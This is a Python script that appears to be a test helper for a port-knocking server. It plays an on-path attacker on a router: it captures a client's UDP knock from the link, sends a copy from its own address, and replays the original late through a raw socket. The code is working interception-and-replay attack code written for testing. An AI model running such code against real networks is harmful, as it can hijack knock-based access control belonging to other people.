"""An on-path attacker on a router: sends a copy of the first knock from its own address, the original late.

usage: relay-late.py CLIENT_IFACE CLIENT_IP SERVER_IP PORT OWN_IP DELAY_MS
The router's forward chain drops the client's knock (an nft rule set up by the test); this script sees
it on the client's link (AF_PACKET sees frames before netfilter), sends its UDP payload to the server
from OWN_IP, waits DELAY_MS, then sends the original IP packet unchanged (the client's source address)
through a raw socket. Prints ready, copy-sent, original-sent; exits after one knock or 30 s.
"""
import socket
import struct
import sys
import time


def udp_checksum(addresses, segment):
    """RFC 768: one's complement sum over the pseudo-header and the UDP segment; 0 is sent as 0xFFFF."""
    data = addresses + struct.pack("!BBH", 0, socket.IPPROTO_UDP, len(segment)) + segment
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF) or 0xFFFF


iface, client_ip, server_ip, port, own_ip, delay_ms = sys.argv[1:7]
port = int(port)
ETH_P_IP = 0x0800

capture = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
capture.bind((iface, 0))
capture.settimeout(30)
copy = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
copy.bind((own_ip, 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # implies IP_HDRINCL
print("ready", flush=True)

deadline = time.time() + 30
while time.time() < deadline:
    frame, meta = capture.recvfrom(65535)
    if meta[2] == socket.PACKET_OUTGOING:
        continue
    packet = frame[14:]
    if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
        continue
    ihl = (packet[0] & 0x0F) * 4
    total = struct.unpack("!H", packet[2:4])[0]
    src, dst = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
    dport = struct.unpack("!H", packet[ihl + 2 : ihl + 4])[0]
    if src != client_ip or dst != server_ip or dport != port:
        continue
    packet = bytearray(packet[:total])
    # A frame captured on a veth may carry a partial (offloaded) UDP checksum: recompute it.
    packet[ihl + 6 : ihl + 8] = b"\0\0"
    packet[ihl + 6 : ihl + 8] = struct.pack("!H", udp_checksum(bytes(packet[12:20]), bytes(packet[ihl:])))
    packet = bytes(packet)
    copy.sendto(packet[ihl + 8 :], (server_ip, port))
    print("copy-sent", flush=True)
    time.sleep(int(delay_ms) / 1000)
    raw.sendto(packet, (server_ip, 0))
    print("original-sent", flush=True)
    sys.exit(0)
print("timeout", flush=True)
sys.exit(1)
